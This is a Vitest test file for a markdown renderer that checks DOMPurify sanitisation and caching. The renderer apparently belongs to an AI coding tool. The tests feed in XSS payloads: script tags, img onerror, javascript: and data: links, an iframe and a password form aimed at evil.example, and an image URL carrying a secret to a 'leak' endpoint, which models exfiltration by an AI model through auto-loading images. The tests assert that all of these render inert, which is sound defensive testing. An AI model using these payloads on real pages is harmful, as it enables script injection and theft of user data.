// Sanitiser tests run in jsdom: DOMPurify needs a DOM (see tests/unit/lib/markdown.test.ts for node).
import { describe, expect, it } from "vitest";
import { Marked } from "marked";
import createDOMPurify from "dompurify";
import { plainHtml, renderMarkdown, renderMarkdownUncached, warmUpMarkdown } from "../../../src/lib/markdown";

function dom(markdown: string): HTMLElement {
  const container = document.createElement("div");
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

/** Every attribute of every element, to check that no handler or dangerous URL survived. */
function attributes(container: HTMLElement): Array<[string, string]> {
  return [...container.querySelectorAll("*")].flatMap((element) =>
    [...element.attributes].map((attribute): [string, string] => [attribute.name, attribute.value]),
  );
}

function expectInert(container: HTMLElement) {
  expect(container.querySelector("script, iframe, object, embed, form, style, svg, math, link, meta, base")).toBeNull();
  for (const [name, value] of attributes(container)) {
    expect(name).not.toMatch(/^on/i);
    expect(name).not.toBe("style");
    expect(value).not.toMatch(/^\s*(javascript|vbscript|data):/i);
  }
}

describe("renderMarkdown against script-bearing markdown", () => {
  const attacks: Record<string, string> = {
    script: "hello <script>alert(1)</script> world",
    "script block": "<script>\nalert(1)\n</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "javascript link": "[x](javascript:alert(1))",
    "mixed-case javascript href": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "mixed-case javascript markdown link": "[click](JaVaScRiPt:alert(1))",
    "entity-encoded javascript link": "[click](&#106;avascript:alert(1))",
    iframe: '<iframe src="https://evil.example"></iframe>',
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    style: "<style>body { display: none }</style>\n\ntext",
    "inline style": '<p style="position:fixed;inset:0">cover</p>',
    "data link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data autolink": "<data:text/html,<script>alert(1)</script>>",
    object: '<object data="x.swf"></object><embed src="x.swf">',
    form: '<form action="https://evil.example"><input name=password><button>go</button></form>',
    "image with javascript src": "![x](javascript:alert(1))",
    "reference link to javascript": "[x][ref]\n\n[ref]: javascript:alert(1)",
  };

  for (const [name, markdown] of Object.entries(attacks)) {
    it(`leaves nothing active for ${name}`, () => {
      expectInert(dom(markdown));
    });
  }

  it("shows raw HTML as text instead of dropping it", () => {
    const container = dom("hello <script>alert(1)</script> world");
    expect(container.querySelector("script")).toBeNull();
    expect(container.textContent).toContain("<script>alert(1)</script>");
  });

  it("shows an img tag with onerror as text, not as an image", () => {
    const container = dom('<img src=x onerror="alert(1)">');
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toContain("onerror");
  });

  it("keeps the text of a javascript: link but drops its href", () => {
    const link = dom("[x](javascript:alert(1))").querySelector("a");
    // marked may drop the link or keep it without href; either way nothing can be clicked into.
    if (link) expect(link.getAttribute("href")).toBeNull();
    expect(dom("[x](javascript:alert(1))").textContent).toContain("x");
  });

  // Drawn, a remote image is fetched at once, with the page as Referer: a model could report back
  // whatever it put in the URL. It is a link the person may open, and nothing is fetched by itself.
  it("shows a remote image as a link, never as an image that loads on its own", () => {
    const container = dom('See ![the chart](http://host/leak?secret=s3cr3t "Chart") and ![](https://example.com/a.png) and ![rel](a.png)');
    expect(container.querySelector("img")).toBeNull();
    const links = [...container.querySelectorAll("a")];
    expect(links.map((a) => a.textContent)).toEqual(["Image: the chart", "Image: https://example.com/a.png", "Image: rel"]);
    expect(links[0]).toHaveAttribute("href", "http://host/leak?secret=s3cr3t");
    expect(links[0]).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(links[0]).toHaveAttribute("target", "_blank");
    expect(links[0]).toHaveAttribute("title", "Chart");
  });

  it("draws a data: image, which fetches nothing", () => {
    const container = dom("![dot](data:image/png;base64,iVBORw0KGgo=)");
    expect(container.querySelector("img")).toHaveAttribute("src", "data:image/png;base64,iVBORw0KGgo=");
    expect(container.querySelector("img")).toHaveAttribute("alt", "dot");
  });

  it("drops a data: href on a markdown link", () => {
    const link = dom("[open](data:text/html;base64,AAAA)").querySelector("a");
    if (link) expect(link.getAttribute("href")).toBeNull();
  });
});

describe("renderMarkdown on normal markdown", () => {
  it("renders headings, emphasis and lists", () => {
    const container = dom("# Title\n\n## Sub\n\nSome **bold** and *it*.\n\n- one\n- two\n\n1. first\n2. second");
    expect(container.querySelector("h1")?.textContent).toBe("Title");
    expect(container.querySelector("h2")?.textContent).toBe("Sub");
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("em")?.textContent).toBe("it");
    expect([...container.querySelectorAll("ul > li")].map((li) => li.textContent)).toEqual(["one", "two"]);
    expect([...container.querySelectorAll("ol > li")].map((li) => li.textContent)).toEqual(["first", "second"]);
  });

  it("renders fenced code with its language class and escaped content", () => {
    const container = dom("```ts\nconst a = 1 < 2 && '<b>';\n```");
    const code = container.querySelector("pre > code");
    expect(code?.className).toBe("language-ts");
    expect(code?.textContent).toBe("const a = 1 < 2 && '<b>';\n");
    expect(code?.querySelector("b")).toBeNull();
  });

  it("renders GFM tables", () => {
    const container = dom("| a | b |\n|---|---|\n| 1 | 2 |");
    expect([...container.querySelectorAll("th")].map((th) => th.textContent)).toEqual(["a", "b"]);
    expect([...container.querySelectorAll("td")].map((td) => td.textContent)).toEqual(["1", "2"]);
  });

  it("renders links that open in a new tab without referrer or opener", () => {
    const link = dom("see [docs](https://opencode.ai/docs) and https://example.com").querySelectorAll("a");
    expect(link).toHaveLength(2);
    expect(link[0].getAttribute("href")).toBe("https://opencode.ai/docs");
    expect(link[0].getAttribute("target")).toBe("_blank");
    expect(link[0].getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link[1].getAttribute("href")).toBe("https://example.com");
  });

  it("renders GFM task lists as disabled checkboxes", () => {
    const boxes = dom("- [x] done\n- [ ] open").querySelectorAll("input");
    expect(boxes).toHaveLength(2);
    for (const box of boxes) {
      expect(box.getAttribute("type")).toBe("checkbox");
      expect(box.hasAttribute("disabled")).toBe(true);
    }
  });

  it("resolves reference links across blocks", () => {
    const link = dom("See [the docs][d].\n\nMore text.\n\n[d]: https://opencode.ai").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://opencode.ai");
  });

  it("matches the uncached render for long texts sanitised in several cached runs", () => {
    let full = "";
    for (let n = 0; n < 60; n++) full += `Paragraph ${n} with [a link][ref] and **bold**.\n\n- item ${n}\n\n`;
    full += "[ref]: https://opencode.ai\n";
    for (let end = 1500; end <= full.length; end += 97) {
      const text = full.slice(0, end);
      expect(renderMarkdown(text)).toBe(renderMarkdownUncached(text));
    }
    expect(renderMarkdown(full)).toBe(renderMarkdownUncached(full));
  });

  it("matches the uncached whole-document render while a text streams in", () => {
    const full = "# Plan\n\nFirst paragraph.\n\n- a\n\n- b\n\n```js\nlet x = 1;\n```\n\n| h |\n|---|\n| v |\n\nEnd.";
    for (let end = 1; end <= full.length; end += 3) {
      const text = full.slice(0, end);
      expect(renderMarkdown(text)).toBe(renderMarkdownUncached(text));
    }
  });
});

describe("plain prose skips DOMPurify", () => {
  const purify = createDOMPurify(window);
  const marked = new Marked({ gfm: true });
  const prose = [
    "Just a sentence with 'quotes', \"double quotes\" & an ampersand, 1 < 2 > 0.",
    '# Heading\n\nText with *emphasis*, **strong**, ~~struck~~ and `code with "quotes" & <tags>`.',
    "- one\n- two\n  - nested\n\n1. first\n2. second",
    "> quoted\n> text\n\n---\n\nline with a break  \nnext line",
    '```\nplain <code> & "block"\n```\n\n    indented code\n',
    "###### small heading\n\n" + Array.from({ length: 500 }, (_, i) => `tok${i}`).join(" "),
  ];

  it("gives, for what marked makes of plain prose, exactly what DOMPurify gives", () => {
    for (const text of prose) {
      const html = marked.parse(text) as string;
      expect(plainHtml(html), text).toBe(purify.sanitize(html));
    }
  });

  it("leaves anything with another tag, an attribute, another entity or a character the parser changes to DOMPurify", () => {
    const others = [
      '<p><a href="https://example.com">x</a></p>',
      '<p class="x">x</p>',
      "<p><img src=x onerror=alert(1)></p>",
      "<script>alert(1)</script>",
      "<p >x</p>",
      "<br/>",
      "<P>x</P>",
      '<pre><code class="language-js">x</code></pre>',
      "<table><tr><td>x</td></tr></table>",
      "<p>&copy; &#x3C;</p>",
      "<p>no\u00a0break</p>",
      "<p>a\rb</p>",
      "<p>a\u0000b</p>",
      "x < y",
    ];
    for (const html of others) expect(plainHtml(html), html).toBeUndefined();
  });

  it("renders the same with the shortcut as the uncached render of a mixed text", () => {
    const text = `${prose.join("\n\n")}\n\n[a link](https://example.com) and <b>raw</b>.`;
    const container = document.createElement("div");
    container.innerHTML = renderMarkdown(text);
    expect(container.innerHTML).toBe(renderMarkdownUncached(text));
    expectInert(container);
    expect(container.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });
});

describe("warmUpMarkdown", () => {
  it("changes nothing that a later render returns, nor what the sanitiser lets through", () => {
    const text = "# Title\n\nSee [docs](https://example.com) and [bad](javascript:alert(1)).\n\n<img src=x onerror=alert(1)>";
    const before = renderMarkdownUncached(text);
    warmUpMarkdown();
    expect(renderMarkdownUncached(text)).toBe(before);
    const container = document.createElement("div");
    container.innerHTML = renderMarkdown(text);
    expectInert(container);
    expect(container.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });
});
